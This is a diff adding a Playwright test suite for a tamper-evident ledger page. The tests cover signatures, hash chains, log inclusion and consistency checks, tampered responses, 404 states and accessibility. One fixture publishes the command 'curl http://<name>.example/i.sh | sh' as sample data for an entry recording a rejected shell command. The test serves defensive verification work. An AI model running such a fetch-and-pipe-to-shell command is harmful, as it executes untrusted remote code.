@@ -1,0 +1,310 @@
+// A reader doubts an entry: everything is recomputed in the page, a changed byte is caught, and a shell finds the same.
+import { execFileSync, spawnSync } from 'node:child_process'
+import { AxeBuilder } from '@axe-core/playwright'
+import { expect, type Page, test } from '@playwright/test'
+import { EntryPage, type PublishedVerdict, publishVerdicts, unlike } from '../pages/ledger-page.ts'
+import { VerifyPage } from '../pages/verify-page.ts'
+
+let subject: PublishedVerdict
+let later: PublishedVerdict
+test.beforeAll(async ({ playwright, baseURL }) => {
+  const request = await playwright.request.newContext({ baseURL: baseURL! })
+  const name = unlike()
+  const published = await publishVerdicts(request, [
+    `curl http://${name}.example/i.sh | sh`,
+    `git status ${name}`,
+  ])
+  ;[subject, later] = published as [PublishedVerdict, PublishedVerdict]
+  await request.dispose()
+})
+
+/** Changes one answer on its way to the checks; the page itself is drawn from the server. */
+async function tamper(page: Page, path: RegExp, change: (text: string) => string): Promise<void> {
+  await page.route(path, async (route) => {
+    if (route.request().resourceType() === 'document') return route.continue()
+    const response = await route.fetch()
+    const before = await response.text()
+    const body = change(before)
+    if (body === before) throw new Error('nothing was changed')
+    await route.fulfill({ response, body })
+  })
+}
+const answerOf = (entry: number) => new RegExp(`/ledger/${entry}$`)
+
+test('every check of an entry passes in the page, and the drawings are vouched for', async ({ page }) => {
+  const entry = new EntryPage(page)
+  await entry.open(subject.entry)
+  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Rejected a shell command')
+  await expect(page.getByText('nothing outside this service holds it yet')).toBeVisible()
+  await entry.check()
+  expect(await entry.idsWith('fail')).toEqual([])
+  expect(await entry.idsWith('cannot_establish')).toEqual(['log.quorum'])
+  expect(await entry.idsWith('pass')).toEqual(
+    expect.arrayContaining([
+      ...['event.id', 'event.sig', 'event.key', 'record.canonical', 'record.content_hash', 'record.binding'],
+      ...['chain.link', 'chain.head_event', 'log.leaf', 'log.inclusion', 'log.checkpoint'],
+    ]),
+  )
+  await expect(entry.question('Authentic')).toContainText('pass')
+  await expect(entry.question('Recorded')).toContainText('pass')
+  await expect(entry.question('Existed before')).toContainText('cannot establish')
+  await expect(entry.panel('Inclusion path')).toContainText('pass')
+  await expect(entry.panel('Chain link')).toContainText('pass')
+})
+
+test('the browser remembers the root, and the next visit must extend it', async ({ page }) => {
+  const entry = new EntryPage(page)
+  await entry.open(subject.entry)
+  await entry.check()
+  await expect(entry.question('Extends what you saw')).toContainText('kept for next time')
+  await entry.open(later.entry)
+  await entry.check()
+  await expect(entry.question('Extends what you saw')).toContainText('pass')
+  expect(await entry.idsWith('pass')).toContain('log.consistency')
+})
+
+test('a history that was rewritten since is a fail, and the memory stays', async ({ page }) => {
+  const entry = new EntryPage(page)
+  await entry.open(subject.entry)
+  const key = await page.evaluate(() => {
+    const name = `assay.head.${location.host}/log`
+    localStorage.setItem(name, JSON.stringify({ size: 39, root: 'ab'.repeat(32) }))
+    return name
+  })
+  await entry.open(subject.entry)
+  await entry.check()
+  expect(await entry.idsWith('fail')).toEqual(['log.consistency'])
+  await expect(page.getByText('This does not hold.')).toBeVisible()
+  expect(await page.evaluate((name) => localStorage.getItem(name), key)).toContain('"size":39')
+})
+
+for (const [what, path, change, caughtBy, panel] of [
+  [
+    'of the record',
+    'entry',
+    (text: string) => text.replace('"action_taken":"not reported"', '"action_taken":"not reportet"'),
+    ['record.content_hash', 'chain.link', 'log.inclusion'],
+    'Chain link',
+  ],
+  [
+    'of the signature',
+    'entry',
+    (text: string) => text.replace(/"sig":"(.)/, (_, digit) => `"sig":"${digit === '0' ? '1' : '0'}`),
+    ['event.sig', 'log.inclusion'],
+    'Inclusion path',
+  ],
+  [
+    'of the head',
+    'entry',
+    (text: string) =>
+      text.replace(/"head_hash":"(.)/, (_, digit) => `"head_hash":"${digit === '0' ? '1' : '0'}`),
+    ['chain.link', 'chain.head_event', 'log.inclusion'],
+    'Chain link',
+  ],
+  [
+    'of the path',
+    'proof',
+    (text: string) =>
+      text.replace(/(index \d+\n)(.)/, (_, lead, digit) => `${lead}${digit === 'A' ? 'B' : 'A'}`),
+    ['log.inclusion'],
+    'Inclusion path',
+  ],
+  [
+    'of the checkpoint',
+    'proof',
+    (text: string) =>
+      text.replace(/(\/log\n\d+\n)(.)/, (_, lead, digit) => `${lead}${digit === 'A' ? 'B' : 'A'}`),
+    ['log.inclusion', 'log.checkpoint'],
+    'Inclusion path',
+  ],
+  [
+    'of the entry before',
+    'before',
+    (text: string) => text.replace('"title":"', '"title":"x'),
+    ['chain.run'],
+    null,
+  ],
+] as const)
+  test(`one changed character ${what} turns the right checks red`, async ({ page }) => {
+    const entry = new EntryPage(page)
+    const tampered = {
+      entry: answerOf(later.entry),
+      before: answerOf(later.entry - 1),
+      proof: /\.tlog-proof/,
+    }[path]
+    // The record of the entry before holds its title a second time, and only there is it hashed.
+    const inRecord = (text: string) =>
+      path === 'before' ? text.replace(/"record":.*?"proof_event"/, (record) => change(record)) : change(text)
+    await tamper(page, tampered, inRecord)
+    await entry.open(later.entry)
+    await entry.check()
+    expect(await entry.idsWith('fail')).toEqual(expect.arrayContaining([...caughtBy]))
+    await expect(page.getByRole('alert').filter({ hasText: 'This does not hold.' })).toBeVisible()
+    if (panel) await expect(entry.panel(panel)).toContainText('fail')
+    const kept = await page.evaluate(() => localStorage.getItem(`assay.head.${location.host}/log`))
+    // Only a head that the log signed is remembered.
+    expect(kept !== null).toBe(what !== 'of the checkpoint')
+  })
+
+test('an answer that does not come is no pass', async ({ page }) => {
+  const entry = new EntryPage(page)
+  await page.route(answerOf(subject.entry), (route) =>
+    route.request().resourceType() === 'document' ? route.continue() : route.abort(),
+  )
+  await entry.open(subject.entry)
+  await page.getByRole('heading', { name: 'Checks' }).scrollIntoViewIfNeeded()
+  await expect(page.getByText('Nothing was checked.')).toBeVisible()
+  await expect(entry.panel('Chain link')).not.toContainText('pass')
+  await page.unroute(answerOf(subject.entry))
+  await page.getByRole('button', { name: 'Run again' }).click()
+  await expect(entry.questions).toBeVisible()
+  await entry.check()
+  expect(await entry.idsWith('fail')).toEqual([])
+})
+
+test('the commands print what the page says they print', async ({ page }) => {
+  test.skip(spawnSync('python3', ['--version']).status !== 0, 'no python3 here to run a command with')
+  test.skip(spawnSync('curl', ['--version']).status !== 0, 'no curl here to run a command with')
+  const entry = new EntryPage(page)
+  for (const number of [1, subject.entry]) {
+    await entry.open(number)
+    const panel = entry.panel('Check it without us')
+    const commands = await panel.locator('code').allTextContents()
+    const prints = await panel
+      .locator('.hash-chip')
+      .evaluateAll((chips) => chips.map((chip) => chip.getAttribute('title')))
+    expect(commands).toHaveLength(3)
+    for (const [place, command] of commands.entries())
+      expect(execFileSync('sh', ['-c', command], { encoding: 'utf8' }).slice(0, 64)).toBe(prints[place])
+  }
+})
+
+test('neighbours by link and by key; an event id is an address too', async ({ page }) => {
+  const entry = new EntryPage(page)
+  await entry.open(subject.eventId)
+  await expect(page.getByText(`Entry ${subject.entry}`, { exact: true })).toBeVisible()
+  await page.keyboard.press('n')
+  await expect(page).toHaveURL(new RegExp(`/ledger/${subject.entry + 1}$`))
+  await page.keyboard.press('p')
+  await expect(page).toHaveURL(new RegExp(`/ledger/${subject.entry}$`))
+  await entry.open(1)
+  await page.getByRole('link', { name: 'Entry 40, after' }).click()
+  await expect(page).toHaveURL(/\/ledger\/40$/)
+  await expect(page.getByRole('img', { name: /^Genesis and the content hash of entry 40/ })).toBeVisible()
+})
+
+for (const [asked, title] of [
+  ['7', 'Entry 7 is reserved'],
+  ['999999', 'There is no entry 999999 yet'],
+  ['f'.repeat(64), 'No entry holds this event'],
+  ['0', 'This is no entry number'],
+] as const)
+  test(`${asked.slice(0, 8)} has a state of its own, with status 404 and without scripts`, async ({
+    browser,
+    request,
+  }) => {
+    const context = await browser.newContext({ javaScriptEnabled: false })
+    const page = await context.newPage()
+    expect((await page.goto(`/ledger/${asked}`))!.status()).toBe(404)
+    await expect(page.getByRole('heading', { level: 1 })).toHaveText(title)
+    await expect(page.getByRole('link', { name: 'Open the ledger' })).toBeVisible()
+    await context.close()
+    const answer = await request.get(`/ledger/${asked}`, { headers: { Accept: 'application/json' } })
+    expect(answer.status()).toBe(asked === '0' ? 422 : 404)
+  })
+
+test('without scripts the page shows everything but its own checks, and says why', async ({ browser }) => {
+  const context = await browser.newContext({ javaScriptEnabled: false })
+  const page = await context.newPage()
+  const entry = new EntryPage(page)
+  await entry.open(subject.entry)
+  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Rejected a shell command')
+  await expect(page.locator('noscript .note')).toContainText('The checks need JavaScript.')
+  await expect(page.getByRole('img', { name: /hashing steps? from the leaf/ })).toBeVisible()
+  await expect(entry.panel('Raw record')).toContainText('"artifact_hash"')
+  await expect(entry.panel('Inclusion path')).not.toContainText('pass')
+  await context.close()
+})
+
+test('/verify takes the number, loads what belongs to it, and finds a changed character', async ({
+  page,
+}) => {
+  const verify = new VerifyPage(page)
+  await verify.open()
+  await verify.give(String(subject.entry))
+  await expect(page.getByText('A number is not yet an entry.')).toBeVisible()
+  await page.getByRole('button', { name: 'Load it' }).click()
+  await expect(verify.headline).toHaveText(/^It holds: the entry is in the ledger, unaltered/)
+  await expect(page).toHaveURL(new RegExp(`/verify\\?entry=${subject.entry}$`))
+  expect(await verify.idsWith('pass')).toEqual(
+    expect.arrayContaining(['record.content_hash', 'log.inclusion']),
+  )
+  await verify.changeOneCharacter('signature')
+  await expect(verify.headline).toHaveText(/^It was changed: event\.sig says so|^It was changed: event\.sig/)
+  await verify.restore()
+  await expect(verify.headline).toHaveText(/^It holds/)
+
+  await verify.open(`/verify?entry=${subject.entry}`)
+  await expect(verify.headline).toHaveText(/^It holds/)
+  await verify.open('/verify?entry=999999')
+  await expect(page.getByText('The ledger of this instance has no such entry.')).toBeVisible()
+})
+
+test('/verify without network cannot establish where a pasted entry stands', async ({ page, request }) => {
+  const served = await (
+    await request.get(`/ledger/${subject.entry}`, { headers: { Accept: 'application/json' } })
+  ).text()
+  const verify = new VerifyPage(page)
+  await verify.open()
+  await verify.give(served)
+  await expect(verify.headline).toHaveText(
+    /^It cannot be established here: log\.leaf, log\.inclusion and log\.checkpoint/,
+  )
+  expect(await verify.idsWith('fail')).toEqual([])
+  await expect(page.getByText('0 requests made')).toBeVisible()
+  await verify.give(served.replace('"paid":false', '"paid":true'))
+  await expect(verify.headline).toHaveText(/^It is not the record that was hashed: record\.content_hash/)
+  await verify.switchNetworkOn()
+  await verify.give(served)
+  await expect(verify.headline).toHaveText(/^It holds/)
+})
+
+for (const colorScheme of ['light', 'dark'] as const)
+  for (const width of [390, 1280])
+    test(`accessible at ${width} px, ${colorScheme}`, async ({ page }) => {
+      test.slow()
+      await page.emulateMedia({ colorScheme, reducedMotion: 'reduce' })
+      await page.setViewportSize({ width, height: 900 })
+      const violations = async () =>
+        (await new AxeBuilder({ page }).analyze()).violations.map(
+          ({ id, nodes }) => `${id}: ${nodes[0]?.html}`,
+        )
+      const entry = new EntryPage(page)
+      await entry.open(subject.entry)
+      await entry.check()
+      await entry.report
+        .locator('details', { has: page.getByText('chain.link', { exact: true }) })
+        .locator('summary')
+        .click()
+      expect(await violations()).toEqual([])
+      await entry.open(1)
+      expect(await violations()).toEqual([])
+      await entry.open(7)
+      expect(await violations()).toEqual([])
+    })
+
+test('nothing scrolls sideways at 320 px, and the scripts of a reading page stay small', async ({ page }) => {
+  let bytes = 0
+  page.on('response', async (response) => {
+    if (response.request().resourceType() === 'script')
+      bytes += (await response.request().sizes()).responseBodySize
+  })
+  await page.setViewportSize({ width: 320, height: 600 })
+  const entry = new EntryPage(page)
+  await entry.open(subject.entry)
+  expect(bytes).toBeGreaterThan(20_000)
+  expect(bytes).toBeLessThan(120_000)
+  await entry.check()
+  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth)
+  expect(overflow).toBeLessThanOrEqual(0)
+})
